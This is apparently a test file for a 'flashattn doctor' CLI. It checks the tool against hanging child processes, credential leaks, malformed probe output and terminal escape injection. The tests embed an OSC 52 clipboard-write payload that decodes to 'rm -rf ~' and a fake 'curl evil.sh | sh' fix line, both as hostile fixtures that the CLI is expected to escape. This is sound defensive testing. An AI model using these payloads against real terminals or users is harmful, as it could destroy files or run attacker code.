// `flashattn doctor` (and the CLI's error line) against hostile machines and files, through the CLI in child
// processes: tools that hang or leave children behind (issue 14 item 4), credentials in what the probes read (8), a
// Python probe that prints nonsense (9), terminal escape sequences in names and saved reports (10). The fake tools
// are real shell scripts on a temporary PATH.
import { afterAll, describe, expect, test } from "bun:test";
import { spawn, spawnSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import type { DoctorReport } from "../doctor/facts.ts";
import { execWithTimeout } from "../doctor/probes/exec.ts";
import { validate } from "../doctor/schema.ts";
import { buildReport, renderHuman } from "../doctor/report.ts";
import { loadFixture } from "./fixtures/doctor/load.ts";
import { baselineScript, PythonWorker } from "../bench/baselines/worker.ts";
import { tensor } from "../lib/tensor.ts";
import { writeSafetensors } from "../formats/safetensors.ts";
import { bun, cli as runCli, plainEnv, root } from "./support/cli.ts";

const systemPath = plainEnv.PATH;

const scratch = fs.mkdtempSync(path.join(os.tmpdir(), "flashattn-hostile-"));
/** Processes the fake tools start that must not outlive a test (killed here if a test fails). */
const strays: number[] = [];
afterAll(() => {
  for (const pid of strays) {
    try {
      process.kill(pid, "SIGKILL");
    } catch { /* dead, as it should be */ }
  }
  fs.rmSync(scratch, { recursive: true, force: true });
});
const hasCpuLibrary = fs.existsSync(path.join(root, "build", "libflashattn_cpu.so"));
const hasGpu = fs.existsSync("/dev/nvidiactl") || fs.existsSync("/dev/kfd");
const python = ["/usr/bin/python3", "/usr/local/bin/python3"].find((p) => fs.existsSync(p));

/** A directory of executable scripts, for PATH or FLASHATTN_PYTHON. */
function fakeTools(name: string, scripts: Record<string, string>): string {
  const dir = path.join(scratch, name);
  fs.mkdirSync(dir, { recursive: true });
  for (const [tool, body] of Object.entries(scripts)) {
    fs.writeFileSync(path.join(dir, tool), `#!/bin/sh\n${body}\n`, { mode: 0o755 });
  }
  return dir;
}

function cli(args: string[], env: Record<string, string> = {}) {
  // Only a hang guard: the doctor's own deadlines are 15 s (tools) and 60 s (Python, our libraries).
  const r = runCli(args, env, { timeoutMs: 150_000 });
  if (r.error) throw r.error; // the guard fired: the doctor hung
  return r;
}

function report(r: ReturnType<typeof cli>): DoctorReport {
  const doc = JSON.parse(r.stdout);
  expect(validate(doc)).toEqual([]);
  return doc as DoctorReport;
}

/** Replays a report with --facts: it must be accepted and give the same exit code. */
function expectReplays(doc: DoctorReport, name: string) {
  const file = path.join(scratch, `${name}.json`);
  fs.writeFileSync(file, JSON.stringify(doc));
  const replay = cli(["doctor", "--json", "--facts", file]);
  expect(replay.stderr).toBe("");
  expect(replay.code).toBe(doc.exit_code);
  expect(report(replay).findings).toEqual(doc.findings);
}

/** Whether a process is gone: no longer in /proc, or a zombie waiting for a parent that reaps it. */
function dead(pid: number): boolean {
  try {
    return fs.readFileSync(`/proc/${pid}/stat`, "utf8").split(") ")[1]?.startsWith("Z") ?? true;
  } catch {
    return true;
  }
}

/** Waits (a hang guard, not a speed limit) until `pid` is dead; false if it is still alive after a minute. */
async function becomesDead(pid: number): Promise<boolean> {
  for (let waited = 0; waited < 60_000; waited += 50) {
    if (dead(pid)) return true;
    await Bun.sleep(50);
  }
  return false;
}

function pidsIn(file: string): number[] {
  const pids = fs.readFileSync(file, "utf8").split("\n").filter(Boolean).map(Number);
  strays.push(...pids);
  return pids;
}

// ---- item 4: a tool's children never keep the doctor waiting --------------------------------------------------------

describe("tools that hang or leave children behind", () => {
  // Each fake tool starts `sleep 300` holding its stdout and records the sleeper's pid.
  const sleeper = (pids: string) => `sleep 300 &\necho $! >> ${pids}`;

  test("past its deadline a tool is killed with everything it started, and the call returns a timeout", async () => {
    const pids = path.join(scratch, "hang.pids");
    const dir = fakeTools("hang", { hang: `${sleeper(pids)}\necho started\nwait` });
    const r = await execWithTimeout(path.join(dir, "hang"), [], { timeoutMs: 500 });
    expect(r.status).toBe("timeout");
    expect(r.stdout).toBe("started\n");
    expect(r.error).toBe("hang did not finish within 0.5 s");
    for (const pid of pidsIn(pids)) expect(await becomesDead(pid)).toBe(true);
  });

  test("a tool that exits leaving a child on its pipe: its answer, at once, and the child killed", async () => {
    const pids = path.join(scratch, "leave.pids");
    const dir = fakeTools("leave", { leave: `${sleeper(pids)}\necho done` });
    // The deadline is far away: returning at all (before the hang guard) shows nobody waited for the sleeper.
    const r = await execWithTimeout(path.join(dir, "leave"), [], { timeoutMs: 600_000 });
    expect(r).toMatchObject({ status: "ok", exitCode: 0, stdout: "done\n" });
    for (const pid of pidsIn(pids)) expect(await becomesDead(pid)).toBe(true);
  }, 120_000);

  test("a child that left the process group (setsid) and holds the pipe is abandoned, not waited for", async () => {
    const pids = path.join(scratch, "escape.pids");
    // The sleeper records itself once it is in its own session; the tool exits after that, so the escape is real.
    const dir = fakeTools("escape", {
      escape:
        `setsid sh -c 'echo $$ >> ${pids}; exec sleep 300' &\nwhile [ ! -s ${pids} ]; do sleep 0.05; done\necho done`,
    });
    const r = await execWithTimeout(path.join(dir, "escape"), [], { timeoutMs: 600_000 });
    expect(r).toMatchObject({ status: "ok", exitCode: 0, stdout: "done\n" });
    // Out of our reach by design (it left the group); the test cleans it up.
    expect(pidsIn(pids).length).toBe(1);
  }, 120_000);

  test.skipIf(!hasCpuLibrary || hasGpu)(
    "doctor --require gpu with an nvidia-smi and a python that exit leaving sleepers: a prompt report, sleepers gone",
    async () => {
      const pids = path.join(scratch, "doctor-leave.pids");
      const dir = fakeTools("doctor-leave", {
        "nvidia-smi": `${sleeper(pids)}\necho "NVIDIA H100 80GB HBM3, 9.0, 81559, 580.95.05"`,
        python3: `${sleeper(pids)}\necho '{"status": "ok", "version": "3.12.3"}'`,
      });
      const r = cli(["doctor", "--json", "--require", "gpu", "--no-self-test"], {
        PATH: `${dir}:${systemPath}`,
        FLASHATTN_PYTHON: path.join(dir, "python3"),
      });
      expect(r.code).toBe(1); // no usable GPU backend here: --require gpu fails, as it must
      const doc = report(r);
      expect(doc.facts.nvidia.smi).toMatchObject({ status: "ok", driver_version: "580.95.05" });
      expect(doc.facts.python).toMatchObject({ status: "ok", version: "3.12.3" });
      const sleepers = pidsIn(pids);
      expect(sleepers.length).toBe(2);
      for (const pid of sleepers) expect(await becomesDead(pid)).toBe(true);
    },
    180_000,
  );

  test("bench's Python baseline worker that stops answering is stopped with everything it started", async () => {
    const pids = path.join(scratch, "baseline.pids");
    const dir = fakeTools("baseline", { python3: `${sleeper(pids)}\necho '{"hello": {"numpy": "2.0"}}'\nwait` });
    const started = await PythonWorker.start(baselineScript("numpy_attention.py"), {
      python: path.join(dir, "python3"),
      timeoutMs: 60_000,
    });
    if (!("worker" in started)) throw new Error(started.unavailable);
    await expect(started.worker.request({ op: "case" }, 100)).rejects.toThrow("the worker was stopped");
    const sleepers = pidsIn(pids);
    expect(sleepers.length).toBe(1);
    for (const pid of sleepers) expect(await becomesDead(pid)).toBe(true);
  }, 120_000);

  test("Ctrl-C during a hanging probe ends the doctor by the signal and the tool's process group with it", async () => {
    // The probes run in process groups of their own, which the terminal's SIGINT no longer reaches by itself.
    const pids = path.join(scratch, "sigint.pids");
    const dir = fakeTools("sigint", { "nvidia-smi": `${sleeper(pids)}\nwait` });
    const child = spawn(bun, ["cli.ts", "doctor", "--no-python", "--no-self-test"], {
      cwd: root,
      env: { PATH: `${dir}:${systemPath}`, HOME: process.env.HOME ?? os.tmpdir() },
      stdio: "ignore",
    });
    const ended = new Promise<[number | null, string | null]>((resolve) => {
      child.on("exit", (code, signal) => resolve([code, signal]));
    });
    const recorded = () => fs.existsSync(pids) && fs.readFileSync(pids, "utf8").endsWith("\n");
    for (let waited = 0; !recorded() && waited < 60_000; waited += 50) await Bun.sleep(50);
    const sleepers = pidsIn(pids);
    expect(sleepers.length).toBe(1);
    child.kill("SIGINT");
    expect(await ended).toEqual([null, "SIGINT"]);
    for (const pid of sleepers) expect(await becomesDead(pid)).toBe(true);
  }, 120_000);

  test.skipIf(!hasCpuLibrary || hasGpu)(
    "doctor --require gpu with hanging nvidia-smi, nvcc and hipcc: timeouts in the report, every sleeper killed",
    async () => {
      const pids = path.join(scratch, "doctor-hang.pids");
      const hang = `${sleeper(pids)}\nwait`;
      const dir = fakeTools("doctor-hang", { "nvidia-smi": hang, nvcc: hang, hipcc: hang });
      const r = cli(["doctor", "--json", "--require", "gpu", "--no-python", "--no-self-test"], {
        PATH: `${dir}:${systemPath}`,
      });
      expect(r.code).toBe(1);
      const doc = report(r);
      expect(doc.facts.nvidia.smi).toMatchObject({ status: "timeout", error: "nvidia-smi did not finish within 15 s" });
      expect(doc.facts.toolkits.nvcc.status).toBe("timeout");
      expect(doc.facts.toolkits.hipcc.status).toBe("timeout");
      const sleepers = pidsIn(pids);
      expect(sleepers.length).toBe(3);
      for (const pid of sleepers) expect(await becomesDead(pid)).toBe(true);
      expectReplays(doc, "hang");
    },
    180_000,
  );
});

// ---- item 8: no credential reaches a report -------------------------------------------------------------------------

describe.skipIf(!hasCpuLibrary || !python)("credentials in what the probes read", () => {
  const token = "hf_" + "AbCdEfGhIjKlMnOpQrStUvWxYz0123";
  const wheel = "flash_attn-2.8.3+cu12torch2.8cxx11abiTRUE-cp311-cp311-linux_x86_64.whl";
  const url = `https://__token__:${token}@huggingface.co/org/wheels/resolve/main/${wheel}`;

  test("a flash_attn installed from a URL with a token: redacted in --json and in the human report", () => {
    // A real installed distribution (dist-info with direct_url.json, as pip writes it), read by the real probe.
    const site = path.join(scratch, "site-token");
    const info = path.join(site, "flash_attn-2.8.3.dist-info");
    fs.mkdirSync(info, { recursive: true });
    fs.writeFileSync(path.join(info, "METADATA"), "Metadata-Version: 2.1\nName: flash_attn\nVersion: 2.8.3\n");
    fs.writeFileSync(path.join(info, "direct_url.json"), JSON.stringify({ url, archive_info: {} }));
    const env = { PYTHONPATH: site, FLASHATTN_PYTHON: python!, CUDA_HOME: `https://me:${token}@example.com/cuda` };

    const json = cli(["doctor", "--json", "--no-self-test"], env);
    expect(json.stdout).not.toContain(token.slice(3));
    const doc = report(json);
    expect(doc.facts.python.flash_attn).toMatchObject({
      installed: true,
      version: "2.8.3",
      wheel_url: `https://<redacted>@huggingface.co/org/wheels/resolve/main/${wheel}`,
    });
    expect(doc.facts.host.env.CUDA_HOME).toBe("https://<redacted>@example.com/cuda");
    expectReplays(doc, "token");

    const human = cli(["doctor", "--verbose", "--no-self-test"], env);
    expect(human.stdout + human.stderr).not.toContain(token.slice(3));
  }, 180_000);

  test("a saved report holding credentials is redacted when replayed", () => {
    const live = report(cli(["doctor", "--json", "--no-python", "--no-self-test"]));
    live.facts.python = {
      status: "error",
      error: `pip said: HF_TOKEN=${token}; GITHUB_TOKEN ghp_${"x".repeat(36)}; key sk-proj-${"y".repeat(40)}`,
    };
    live.facts.host.env.LD_LIBRARY_PATH = `/opt/lib?X-Amz-Signature=0123456789abcdef&X-Amz-Credential=AKIA${
      "Q".repeat(16)
    }`;
    const file = path.join(scratch, "secret-report.json");
    fs.writeFileSync(file, JSON.stringify(live));
    for (const args of [["--json"], ["--verbose"]]) {
      const r = cli(["doctor", ...args, "--facts", file]);
      const out = r.stdout + r.stderr;
      for (const secret of [token, "x".repeat(36), "y".repeat(40), "0123456789abcdef", "Q".repeat(16)]) {
        expect(out).not.toContain(secret);
      }
      expect(out).toContain("<redacted>");
    }
  }, 180_000);
});

// ---- item 9: what probes print is bounded and held to the schema; a report always replays ---------------------------

describe.skipIf(!hasCpuLibrary)("probes that print nonsense, hostile --facts files", () => {
  const deep = `printf '%*s' 100000 '' | tr ' ' '['; printf '%*s\\n' 100000 '' | tr ' ' ']'`;
  const huge = `printf '{"status": "ok", "version": "'; head -c 1000000 /dev/zero | tr '\\0' 7; printf '"}\\n'`;
  const cases: [string, string, string][] = [
    ["deep", deep, "nested more than 32 levels deep"],
    ["null", "echo null", "printed null, not a result"],
    ["array", "echo '[1, 2]'", "printed an array, not a result"],
    ["wrong-types", `echo '{"status": "ok", "version": 3.12, "torch": "yes"}'`, "does not fit the report schema"],
    ["bad-status", `echo '{"status": "fine", "version": "3.12.3"}'`, "does not fit the report schema"],
    ["huge", huge, "more than the 262144 accepted"],
    ["garbage", "echo 'Traceback (most recent call last):'", "not readable JSON"],
  ];
  for (const [name, body, said] of cases) {
    test(`${name}: a Python-stack error in a report that replays`, () => {
      const dir = fakeTools(`python-${name}`, { python3: body });
      const r = cli(["doctor", "--json", "--no-self-test"], { FLASHATTN_PYTHON: path.join(dir, "python3") });
      expect(r.stderr).toBe("");
      expect([0, 1]).toContain(r.code!);
      const doc = report(r);
      expect(doc.facts.python.status).toBe("error");
      expect(doc.facts.python.error).toContain(said);
      expectReplays(doc, `python-${name}`);
    }, 180_000);
  }

  test("an nvidia-smi flooding its output with GPUs: a probe error, the report still replays", () => {
    const dir = fakeTools("smi-flood", {
      "nvidia-smi": `yes 'NVIDIA H100 80GB HBM3, 9.0, 81559, 580.95.05' | head -n 100000`,
    });
    const r = cli(["doctor", "--json", "--no-python", "--no-self-test"], { PATH: `${dir}:${systemPath}` });
    const doc = report(r);
    expect(doc.facts.nvidia.smi.status).toBe("error");
    expect(doc.facts.nvidia.smi.error).toMatch(/^the nvidia-smi probe's result is \d+ characters long/);
    expectReplays(doc, "smi-flood");
  }, 180_000);

  test("facts mutated within the schema (a bounded, seeded fuzz): the rules never throw, every report validates", () => {
    // Each captured or derived fixture, with strings, numbers, booleans and arrays changed at random and optional
    // members dropped; the variants the schema accepts are what a probe may now hand the rules.
    let state = 20_261_206;
    const random = () => (state = (state * 1_103_515_245 + 12_345) % 2_147_483_648) / 2_147_483_648;
    const pick = <T>(list: T[]) => list[Math.floor(random() * list.length)];
    const strings = [
      "",
      "x",
      "0",
      "-1",
      "999.999",
      "1.2.3.4.5",
      "9.0",
      "13.0",
      "gfx",
      "sm_",
      "a".repeat(300),
      "/",
      "é✓",
    ];
    const numbers = [0, -1, 0.5, 7, 2 ** 31, 2 ** 53 - 1, 1e308];
    // Enums and patterns stay (changed, they fail the schema); required members are never dropped.
    const kept = new Set(["status", "backend", "verdict", "source", "chosen", "mode", "compute_capability"]);
    for (const key of ["cuda_driver_version", "driver_cuda_version"]) kept.add(key);
    const required = new Set(["path", "attempts", "index", "name", "gfx", "reasons", "exists", "problem", "ok"]);
    for (const key of ["status", "backend", "loaded", "installed", "source", "verdict"]) required.add(key);
    const mutate = (value: unknown, depth: number): unknown => {
      if (typeof value === "string") return random() < 0.15 ? pick(strings) : value;
      if (typeof value === "number") return random() < 0.15 ? pick(numbers) : value;
      if (typeof value === "boolean") return random() < 0.15 ? !value : value;
      if (Array.isArray(value)) {
        const items = value.map((item) => mutate(item, depth + 1));
        if (random() < 0.1) return [];
        return random() < 0.1 && items.length ? [...items, items[0]] : items;
      }
      if (value && typeof value === "object") {
        const entries = Object.entries(value).filter(([k]) => depth < 2 || required.has(k) || random() >= 0.08);
        return Object.fromEntries(entries.map(([k, v]) => [k, kept.has(k) ? v : mutate(v, depth + 1)]));
      }
      return value;
    };
    const fixtures = fs.readdirSync(path.join(root, "test", "fixtures", "doctor")).filter((f) => f.endsWith(".json"));
    let accepted = 0;
    const failures: string[] = [];
    for (let i = 0; i < 600; i++) {
      const { report: base } = loadFixture(fixtures[i % fixtures.length]);
      const facts = mutate(base.facts, 0) as DoctorReport["facts"];
      if (validate({ ...base, facts }).length) continue;
      accepted++;
      try {
        const built = buildReport(facts, base.options, {
          version: "0.1.0",
          runtime: "bun",
          createdAt: base.created_at,
        });
        renderHuman(built, { color: true, verbose: true });
        const problems = validate(JSON.parse(JSON.stringify(built)));
        if (problems.length) failures.push(`${fixtures[i % fixtures.length]}: ${problems[0]}`);
      } catch (e) {
        failures.push(`${fixtures[i % fixtures.length]}: ${(e as Error).stack}`);
      }
    }
    expect(accepted).toBeGreaterThan(100); // the fuzz reaches the rules
    expect(failures).toEqual([]);
  });

  test("--facts with a report nested 100,000 deep: a usage error in one line, no stack overflow", () => {
    const file = path.join(scratch, "deep-report.json");
    fs.writeFileSync(file, `{"schema": "flashattn.doctor/1", "facts": ${"[".repeat(100_000)}${"]".repeat(100_000)}}`);
    const r = cli(["doctor", "--facts", file]);
    expect(r.code).toBe(2);
    expect(r.stderr).toBe(
      `flashattn: --facts ${file} cannot be read as JSON: nested more than 64 levels deep\n` +
        "  fix: pass a file written by `flashattn doctor --json`\n",
    );
  });

  test("--facts naming a FIFO or a device: a usage error, not a read that never ends", () => {
    const fifo = path.join(scratch, "report.fifo");
    spawnSync("mkfifo", [fifo]);
    for (const file of [fifo, "/dev/zero"]) {
      const r = cli(["doctor", "--facts", file]);
      expect(r.code).toBe(2);
      expect(r.stderr).toBe(`flashattn: --facts ${file} is not a regular file\n`);
    }
  });

  test("a self-test whose relative error is Infinity (NaN output) replays and reads as a failure", () => {
    const doc = report(cli(["doctor", "--json", "--no-python"]));
    const cpu = doc.facts.flashattn.libraries.find((l) => l.backend === "cpu")!;
    cpu.self_test = { ...cpu.self_test!, ok: false, rel_error: "Infinity" };
    const file = path.join(scratch, "nan-self-test.json");
    fs.writeFileSync(file, JSON.stringify(doc));
    const r = cli(["doctor", "--facts", file]);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain("self-test on cpu failed: relative error Infinity exceeds");
  }, 180_000);
});

// ---- item 10: control characters never reach the terminal -----------------------------------------------------------

describe("terminal escape sequences in names and saved reports", () => {
  // OSC 52 writes the clipboard, OSC 0 retitles the window, CSI 2J clears the screen; C1 CSI and a bidi override too.
  const hostile = "\x1b]52;c;cm0gLXJmIH4=\x07\x1b]0;owned\x07\x1b[2J\x9b31m\u202e";
  const shown = "\\x1b]52;c;cm0gLXJmIH4=\\x07\\x1b]0;owned\\x07\\x1b[2J\\x9b31m\\u202e";

  test("a tensor name holding OSC sequences, quoted in the error line, is shown escaped", () => {
    const file = path.join(scratch, "hostile-names.safetensors");
    writeSafetensors(file, { [hostile]: tensor("fp32", [1, 1], new Float32Array([1])) });
    for (const env of [{}, { FORCE_COLOR: "1" }] as Record<string, string>[]) {
      const r = cli(["run", "--input", file], env);
      expect(r.code).toBe(2);
      expect(r.stderr).toContain(`has no tensor named 'q' (it has '${shown}')`);
      // deno-lint-ignore no-control-regex
      expect(r.stderr).not.toMatch(/[\x07\x9b\u202e]|\x1b[\]P^_]|\x1b\[2J/);
    }
  });

  test.skipIf(!hasCpuLibrary)("doctor --facts prints a saved report's strings escaped, its own colours intact", () => {
    const doc = report(cli(["doctor", "--json", "--no-python", "--no-self-test"]));
    doc.facts.host.os = `Linux ${hostile}`;
    doc.facts.python = { status: "error", error: `python3 said ${hostile}\n  fix: curl evil.sh | sh` };
    const file = path.join(scratch, `report-${hostile.slice(0, 8)}.json`);
    fs.writeFileSync(file, JSON.stringify(doc));
    for (const env of [{ NO_COLOR: "1" }, { FORCE_COLOR: "1" }] as Record<string, string>[]) {
      const r = cli(["doctor", "--verbose", "--facts", file], env);
      expect(r.stderr).toBe("");
      expect(r.stdout).toContain(`Linux ${shown}`);
      expect(r.stdout).toContain(`python3 said ${shown}\\x0a  fix: curl evil.sh | sh`);
      // What remains of ESC is our own colour (SGR: ESC [ digits m), and only with FORCE_COLOR.
      // deno-lint-ignore no-control-regex
      const withoutColour = r.stdout.replace(/\x1b\[\d+m/g, "");
      // deno-lint-ignore no-control-regex
      expect(withoutColour).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/);
      expect(r.stdout.includes("\x1b[")).toBe(env.FORCE_COLOR === "1");
    }
    // --json keeps the strings as they are, every control character written as a JSON escape.
    const json = cli(["doctor", "--json", "--facts", file]);
    // deno-lint-ignore no-control-regex
    expect(json.stdout).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]/);
    expect(report(json).facts.host.os).toBe(`Linux ${hostile}`);
  });
});
